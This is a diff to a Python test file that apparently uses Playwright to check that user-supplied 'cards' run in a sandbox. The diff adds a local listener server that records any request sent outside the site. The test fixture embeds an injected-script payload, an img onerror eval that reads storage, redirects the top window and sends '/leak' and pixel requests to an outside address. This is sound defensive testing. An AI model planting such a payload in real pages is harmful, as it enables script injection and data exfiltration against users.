@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import subprocess
 import sys
+import threading
 from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Browser, ConsoleMessage, Page, Request, expect, sync_playwright
 
-from tests.conftest import CHECKOUT, Site, serve
+from tests.conftest import CHECKOUT, Site, served_from
 from tests.obproject.flows import run_flow, write_flow
 
 expect.set_options(timeout=15_000)  # the machine may be busy with other tests
@@ -48,8 +51,8 @@ PRODUCER = """
     attempt("storage", () => String(window.localStorage.length));
     attempt("top", () => { window.top.location = "/admin/"; return "moved"; });
     fetch("/v1/me").then(() => say("site: reached"), () => say("site: refused"));
-    fetch("http://127.0.0.1:9/leak").then(() => say("world: reached"), () => say("world: refused"));
-    new Image().src = "http://127.0.0.1:9/pixel?" + Math.random();
+    fetch("http://127.0.0.1:OUTSIDE/leak").then(() => say("world: reached"), () => say("world: refused"));
+    new Image().src = "http://127.0.0.1:OUTSIDE/pixel?" + Math.random();
     </pre><img alt="" src="data:," onerror="eval(document.getElementById('attack').textContent)">'''
 
     class ProducerFlow(ProjectFlow):
@@ -103,6 +106,8 @@ TOML = 'project = "world"\ntitle = "A small world"\n'
 @dataclass
 class World:
     site: Site
+    leaks: list[str]
+    """What reached the server outside, which nothing must."""
 
     def url(self, path: str = "") -> str:
         return f"{self.site.url}/{path}"
@@ -124,22 +129,40 @@ def _folder(parent: Path, name: str, flow: str, toml: str = TOML) -> Path:
     return folder
 
 
+@contextmanager
+def outside() -> Iterator[tuple[int, list[str]]]:
+    """A server elsewhere, for what a card may try to send out: its port, and the addresses that it was asked for."""
+    asked: list[str] = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server.server_port, asked
+        server.shutdown()
+
+
 @pytest.fixture(scope="session")
 def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
     """The project `world`: `rows` on main twice and on user.alice once; feature/x reads main's and writes `report`."""
     home = tmp_path_factory.mktemp("world")
-    for site in serve(home / "site"):
-        main = _folder(home, "main", PRODUCER)
+    with outside() as (port, leaks), served_from(home / "site") as site:
+        producer = PRODUCER.replace("OUTSIDE", str(port))
+        main = _folder(home, "main", producer)
         _deploy(site, main, "main")
         as_deployed = ("--config", "project_spec", "project_spec.json")
-        for folder, options in ((main, as_deployed), (main, as_deployed), (_folder(home, "own", PRODUCER), ())):
+        for folder, options in ((main, as_deployed), (main, as_deployed), (_folder(home, "own", producer), ())):
             run = run_flow(folder, site.url, *options)
             assert run.ok, run.output
         feature = _folder(home, "feature", CONSUMER, TOML + '[dev-assets]\nbranch = "main"\n')
         _deploy(site, feature, "feature/x")
         run = run_flow(feature, site.url, *as_deployed)
         assert run.ok, run.output
-        yield World(site)
+        yield World(site, leaks)
 
 
 @pytest.fixture(scope="session")
